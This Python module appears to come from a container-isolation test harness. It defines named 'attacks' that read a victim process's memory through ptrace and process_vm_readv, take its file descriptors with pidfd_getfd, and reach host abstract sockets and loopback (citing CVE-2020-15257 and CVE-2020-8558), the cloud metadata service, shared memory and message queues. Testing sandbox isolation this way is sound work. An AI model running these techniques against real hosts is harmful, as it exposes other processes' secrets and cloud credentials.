"""Other processes and the network: what belongs to the host or to a neighbour and can be spoken to."""


@attack("ptrace")
def ptrace():
    """Another process's memory, as its debugger. Seized, not attached to: that would stop it."""
    def seized(pid):
        libc("ptrace", ctypes.c_long(0x4206), ctypes.c_long(pid), None, None)
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
            return marked(pid, lambda at, size: (memory.seek(at), memory.read(size))[1])
    return first(*[lambda pid=pid: in_child(lambda: seized(pid)) for pid in (CFG["victim"],)])


@attack("process-memory")
def process_memory():
    """Another process's memory by process_vm_readv, which needs no stop."""
    def piece(pid, at, size):
        buffer = ctypes.create_string_buffer(size)
        ours = struct.pack("QQ", ctypes.addressof(buffer), size)
        theirs = struct.pack("QQ", at, size)
        got = call("process_vm_readv", pid, ours, 1, theirs, 1, 0)
        return buffer.raw[:got]
    return marked(CFG["victim"], lambda at, size: piece(CFG["victim"], at, size))


def marked(pid, read_memory):
    """What follows the known mark in the writable memory of a process."""
    mark = CFG["memoryMark"].encode()
    for line in open(f"/proc/{pid}/maps"):
        place, rights = line.split()[:2]
        if not rights.startswith("rw"):
            continue
        low, high = (int(part, 16) for part in place.split("-"))
        for at in range(low, high, 1 << 20):
            try:
                data = read_memory(at, min(1 << 20, high - at))
            except (OSError, ValueError, OverflowError):
                break
            if (found := data.find(mark + b":")) >= 0:
                return data[found:found + 128].decode("latin1")
    return "no mark"


@attack("pidfd")
def pidfd():
    """A descriptor taken out of another process."""
    def taken(number):
        own = call("pidfd_getfd", call("pidfd_open", CFG["victim"], 0), number, 0)
        return os.pread(own, 4096, 0).decode("latin1")
    return first(*[lambda n=n: taken(n) for n in range(3, 24)])


@attack("signal")
def signal_host():
    """A signal to a process of the host; it answers by leaving a mark there."""
    os.kill(CFG["victim"], signal.SIGUSR1)
    return "sent"


def ask(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as client:
        client.settimeout(2)
        client.connect(address)
        return client.recv(4096).decode("latin1")


@attack("abstract-socket")
def abstract_socket():
    """CVE-2020-15257: a socket of the host's without a file, which only the network namespace keeps apart."""
    return ask(socket.AF_UNIX, "\0" + CFG["abstract"])


@attack("loopback")
def loopback():
    """CVE-2020-8558: what listens on the host's loopback."""
    return first(lambda: ask(socket.AF_INET, ("127.0.0.1", CFG["port"])), lambda: ask(socket.AF_INET6, ("::1", CFG["port"])))


@attack("host-address")
def host_address():
    """What listens on an address of the host's own."""
    return ask(socket.AF_INET, (CFG["address"], CFG["port"]))


@attack("metadata")
def metadata():
    """The cloud's metadata service, by its address."""
    return ask(socket.AF_INET, ("169.254.169.254", 80))


@attack("shared-memory")
def shared_memory():
    """System V shared memory of the host, by its number."""
    LIBC.shmat.restype = ctypes.c_void_p
    at = LIBC.shmat(CFG["shared"], None, 0o10000)
    if at in (None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), "shmat")
    return ctypes.string_at(at, 128).decode("latin1")


@attack("message-queue")
def message_queue():
    """A POSIX message queue of the host, by its name."""
    library = ctypes.CDLL("librt.so.1", use_errno=True)
    queue = library.mq_open(CFG["queue"].encode(), os.O_RDONLY | os.O_NONBLOCK)
    if queue < 0:
        raise OSError(ctypes.get_errno(), "mq_open")
    buffer = ctypes.create_string_buffer(8192)
    size = library.mq_receive(queue, buffer, len(buffer), None)
    if size < 0:
        raise OSError(ctypes.get_errno(), "mq_receive")
    return buffer.raw[:size].decode("latin1")
